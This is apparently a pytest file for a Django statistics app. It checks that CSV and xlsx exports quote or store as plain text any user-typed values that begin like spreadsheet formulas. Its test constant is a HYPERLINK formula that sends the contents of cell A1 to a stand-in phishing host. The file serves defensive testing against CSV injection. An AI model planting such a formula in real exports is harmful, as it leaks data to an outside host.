"""Exports never run what people typed: a reporter's source "=HYPERLINK(…)" comes out as text everywhere."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from luoshi import cli
from luoshi.accounts.models import User
from luoshi.briefings import render
from luoshi.briefings.content import build_briefing
from luoshi.core.spreadsheet import safe_cell, text_cell
from luoshi.figures.entries import Entry
from luoshi.figures.models import FigureRevision
from luoshi.figures.submission import approve, submit

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://phish.example.net/?leak="&A1,"统计局快报")'
TODAY = dt.date(2024, 3, 1)


def report(user, unit_code, period="2023M06", source=FORMULA):
    entry = Entry(row=1, series="固定资产投资", unit=unit_code, period=period, value="512.5", growth=None,
                  source=source)
    return submit(user, [entry], today=TODAY).written[0]


def no_formulas(content: bytes) -> None:
    """No worksheet of the xlsx holds a formula element: every cell is a value."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert "<f>" not in book.read(name).decode("utf-8"), name


def cells_with(content: bytes, text: str) -> list:
    book = load_workbook(io.BytesIO(content))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == text]


@pytest.mark.parametrize("value", ["=1+2", "+86 371", "-A1", "@SUM(A1)", "\tcmd", "\r=1"])
def test_text_that_starts_a_formula_is_quoted_in_csv(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-3.5, 7000, None, "金水区统计局", "2023M06", "—"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_an_openpyxl_cell_keeps_the_text_exactly_but_as_a_string():
    from openpyxl import Workbook

    cell = Workbook().active.cell(1, 1, FORMULA)
    assert cell.data_type == "f"
    assert text_cell(cell).data_type == "s" and cell.value == FORMULA


def test_the_figure_template_carries_the_source_as_text(client_for, jinshui_reporter, assignments):
    report(jinshui_reporter, "410105")
    response = client_for(jinshui_reporter).get(reverse("figures:template"), {"unit": "410105",
                                                                              "period": "2023M06"})
    assert response.status_code == 200
    no_formulas(response.content)
    [cell] = cells_with(response.content, FORMULA)
    assert cell.data_type == "s"


def test_the_briefing_xlsx_carries_the_source_as_text(plan, units, analyst):
    city = User.objects.create_user(username="city-reporter", password="pw-city-reporter-1",
                                    role=User.Role.REPORTER, unit=units["郑州市"])
    revision = report(city, "410100")
    approve(revision, analyst)
    assert FigureRevision.objects.get(pk=revision.pk).status == FigureRevision.Status.APPROVED
    content = render.briefing_file(build_briefing(plan, "2023M06", today=TODAY), "xlsx")
    no_formulas(content)
    cells = cells_with(content, FORMULA)
    assert cells and all(c.data_type == "s" for c in cells)


def test_luoshi_export_csv_quotes_formula_text_and_keeps_numbers(plan, tmp_path):
    """The plan CSV holds what analysts typed (indicator names): the same rule applies."""
    target = plan.targets.get(indicator="固定资产投资", kind="level")
    plan.targets.filter(pk=target.pk).update(indicator=FORMULA, baseline=-3.5)
    out = tmp_path / "plans.csv"
    assert cli.main(["export", "--format", "csv", "-o", str(out)]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    [row] = [r for r in rows if FORMULA in r["indicator"]]
    assert row["indicator"] == "'" + FORMULA
    assert row["baseline"] == "-3.5" and row["value"] == "7000"
